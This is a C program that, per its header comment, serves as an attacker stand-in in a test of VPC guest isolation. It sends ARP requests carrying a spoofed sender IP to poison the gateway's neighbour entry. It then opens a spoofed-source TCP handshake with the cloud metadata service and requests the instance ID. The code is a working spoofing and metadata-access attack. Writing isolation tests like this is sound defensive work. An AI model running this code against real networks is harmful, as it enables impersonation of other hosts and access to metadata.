/*
 * spoof: what an attacker inside a guest tries against its neighbours in the VPC (the test
 * `network::spoofed_frames_leave_no_tap` builds it static and copies it into an instance).
 *
 *   spoof IFACE TAG SPOOF_IP GATEWAY_IP
 *
 * With TAG `vlan0` every frame carries an 802.1Q header with VLAN id 0 (a priority tag,
 * which a Linux bridge treats as untagged); with `none` it is a plain Ethernet frame.
 * Frames leave with the interface's own MAC as their source (a tap's MAC check would drop
 * any other at once) and SPOOF_IP as their IPv4/ARP sender:
 *
 * 1. three ARP requests for GATEWAY_IP "from" SPOOF_IP: a router that takes them points its
 *    neighbour entry for SPOOF_IP at this guest's MAC;
 * 2. a TCP SYN from SPOOF_IP to the metadata service (169.254.169.254:80); if a SYN-ACK
 *    comes back, an ACK with `GET /latest/meta-data/instance-id`, then whatever data the service sends.
 *
 * Prints `synack` when the handshake was answered, then the data received, and exits 0;
 * prints `none` and exits 1 when nothing came back within 3 seconds. The gateway's MAC is
 * read from /proc/net/arp (the caller pings the gateway first).
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int sock;
static int ifindex;
static int tagged;
static uint8_t my_mac[6], gw_mac[6];
static uint32_t spoof_ip, gw_ip, md_ip;
static uint16_t sport;

static uint16_t csum(const void *data, size_t len, uint32_t sum) {
    const uint8_t *p = data;
    for (; len > 1; len -= 2, p += 2) sum += (uint32_t)p[0] << 8 | p[1];
    if (len) sum += (uint32_t)p[0] << 8;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

/* The Ethernet header (tagged or not) for `type`; returns its length. */
static size_t ether(uint8_t *f, uint16_t type) {
    memcpy(f, gw_mac, 6);
    memcpy(f + 6, my_mac, 6);
    size_t n = 12;
    if (tagged) {
        f[n++] = 0x81;
        f[n++] = 0x00;
        f[n++] = 0; /* priority 0, VLAN id 0 */
        f[n++] = 0;
    }
    f[n++] = type >> 8;
    f[n++] = type & 0xff;
    return n;
}

static void send_frame(const uint8_t *f, size_t len) {
    struct sockaddr_ll to = {0};
    to.sll_family = AF_PACKET;
    to.sll_ifindex = ifindex;
    to.sll_halen = 6;
    memcpy(to.sll_addr, gw_mac, 6);
    if (sendto(sock, f, len, 0, (struct sockaddr *)&to, sizeof to) < 0) perror("sendto");
}

static void send_arp_request(void) {
    uint8_t f[64] = {0};
    size_t n = ether(f, 0x0806);
    uint8_t *a = f + n;
    a[0] = 0, a[1] = 1;       /* Ethernet */
    a[2] = 0x08, a[3] = 0x00; /* IPv4 */
    a[4] = 6, a[5] = 4;
    a[6] = 0, a[7] = 1;       /* request */
    memcpy(a + 8, my_mac, 6);
    memcpy(a + 14, &spoof_ip, 4);
    memset(a + 18, 0, 6);
    memcpy(a + 24, &gw_ip, 4);
    send_frame(f, n + 28 < 60 ? 60 : n + 28);
}

static void send_tcp(uint32_t seq, uint32_t ack, uint8_t flags, const char *data, size_t len) {
    uint8_t f[1600] = {0};
    size_t n = ether(f, 0x0800);
    struct iphdr *ip = (struct iphdr *)(f + n);
    struct tcphdr *tcp = (struct tcphdr *)(f + n + 20);
    ip->version = 4;
    ip->ihl = 5;
    ip->tot_len = htons(20 + 20 + len);
    ip->id = htons(rand() & 0xffff);
    ip->ttl = 64;
    ip->protocol = IPPROTO_TCP;
    ip->saddr = spoof_ip;
    ip->daddr = md_ip;
    ip->check = csum(ip, 20, 0);
    tcp->source = htons(sport);
    tcp->dest = htons(80);
    tcp->seq = htonl(seq);
    tcp->ack_seq = htonl(ack);
    tcp->doff = 5;
    ((uint8_t *)tcp)[13] = flags;
    tcp->window = htons(65535);
    memcpy((uint8_t *)tcp + 20, data, len);
    uint8_t pseudo[12];
    memcpy(pseudo, &ip->saddr, 4);
    memcpy(pseudo + 4, &ip->daddr, 4);
    pseudo[8] = 0, pseudo[9] = IPPROTO_TCP;
    pseudo[10] = (20 + len) >> 8, pseudo[11] = (20 + len) & 0xff;
    uint32_t sum = 0;
    for (int i = 0; i < 12; i += 2) sum += (uint32_t)pseudo[i] << 8 | pseudo[i + 1];
    tcp->check = csum(tcp, 20 + len, sum);
    send_frame(f, n + 40 + len < 60 ? 60 : n + 40 + len);
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* The next TCP segment from the metadata service to SPOOF_IP:sport, within `deadline`. */
static int next_segment(double deadline, struct tcphdr **tcp, uint8_t **payload, size_t *plen, uint8_t *buf) {
    while (now() < deadline) {
        struct pollfd p = {sock, POLLIN, 0};
        if (poll(&p, 1, (int)((deadline - now()) * 1000) + 1) <= 0) continue;
        ssize_t r = recv(sock, buf, 2048, 0);
        if (r < 14) continue;
        size_t off = 12;
        uint16_t type = buf[off] << 8 | buf[off + 1];
        off += 2;
        if (type == 0x8100) {
            type = buf[off + 2] << 8 | buf[off + 3];
            off += 4;
        }
        if (type != 0x0800 || (size_t)r < off + 20) continue;
        struct iphdr *ip = (struct iphdr *)(buf + off);
        if (ip->protocol != IPPROTO_TCP || ip->saddr != md_ip || ip->daddr != spoof_ip) continue;
        size_t ihl = ip->ihl * 4;
        struct tcphdr *t = (struct tcphdr *)(buf + off + ihl);
        if ((size_t)r < off + ihl + 20 || ntohs(t->dest) != sport) continue;
        size_t total = ntohs(ip->tot_len);
        size_t thl = t->doff * 4;
        *tcp = t;
        *payload = (uint8_t *)t + thl;
        *plen = total > ihl + thl ? total - ihl - thl : 0;
        return 1;
    }
    return 0;
}

static int read_gateway_mac(const char *gw) {
    FILE *f = fopen("/proc/net/arp", "r");
    if (!f) return 0;
    char line[256], ip[64], mac[64];
    int found = 0;
    while (fgets(line, sizeof line, f)) {
        if (sscanf(line, "%63s %*s %*s %63s", ip, mac) == 2 && strcmp(ip, gw) == 0) {
            found = sscanf(mac, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &gw_mac[0], &gw_mac[1], &gw_mac[2], &gw_mac[3],
                           &gw_mac[4], &gw_mac[5]) == 6;
        }
    }
    fclose(f);
    return found;
}

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: spoof IFACE vlan0|none SPOOF_IP GATEWAY_IP\n");
        return 2;
    }
    tagged = strcmp(argv[2], "vlan0") == 0;
    if (inet_pton(AF_INET, argv[3], &spoof_ip) != 1 || inet_pton(AF_INET, argv[4], &gw_ip) != 1) {
        fprintf(stderr, "spoof: bad address\n");
        return 2;
    }
    inet_pton(AF_INET, "169.254.169.254", &md_ip);
    if (!read_gateway_mac(argv[4])) {
        fprintf(stderr, "spoof: no ARP entry for %s\n", argv[4]);
        return 2;
    }
    sock = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (sock < 0) {
        perror("socket");
        return 2;
    }
    struct ifreq ifr = {0};
    snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", argv[1]);
    if (ioctl(sock, SIOCGIFINDEX, &ifr) < 0 || (ifindex = ifr.ifr_ifindex, ioctl(sock, SIOCGIFHWADDR, &ifr) < 0)) {
        perror("ioctl");
        return 2;
    }
    memcpy(my_mac, ifr.ifr_hwaddr.sa_data, 6);
    struct sockaddr_ll at = {0};
    at.sll_family = AF_PACKET;
    at.sll_protocol = htons(ETH_P_ALL);
    at.sll_ifindex = ifindex;
    if (bind(sock, (struct sockaddr *)&at, sizeof at) < 0) {
        perror("bind");
        return 2;
    }
    srand((unsigned)(now() * 1e6));
    sport = 40000 + rand() % 20000;

    for (int i = 0; i < 3; i++) {
        send_arp_request();
        usleep(100000);
    }
    uint32_t seq = (uint32_t)rand();
    send_tcp(seq, 0, 0x02 /* SYN */, "", 0);
    uint8_t buf[2048];
    struct tcphdr *t;
    uint8_t *payload;
    size_t plen;
    double deadline = now() + 3;
    int answered = 0;
    while (next_segment(deadline, &t, &payload, &plen, buf)) {
        if (t->syn && t->ack) {
            answered = 1;
            break;
        }
    }
    if (!answered) {
        puts("none");
        return 1;
    }
    puts("synack");
    fflush(stdout);
    uint32_t ack = ntohl(t->seq) + 1;
    seq += 1;
    const char *get = "GET /latest/meta-data/instance-id HTTP/1.0\r\nHost: 169.254.169.254\r\n\r\n";
    send_tcp(seq, ack, 0x18 /* PSH|ACK */, get, strlen(get));
    seq += strlen(get);
    deadline = now() + 3;
    while (next_segment(deadline, &t, &payload, &plen, buf)) {
        if (ntohl(t->seq) == ack && plen > 0) {
            fwrite(payload, 1, plen, stdout);
            ack += plen;
            send_tcp(seq, ack, 0x10 /* ACK */, "", 0);
        }
        if (t->fin) break;
    }
    fflush(stdout);
    return 0;
}
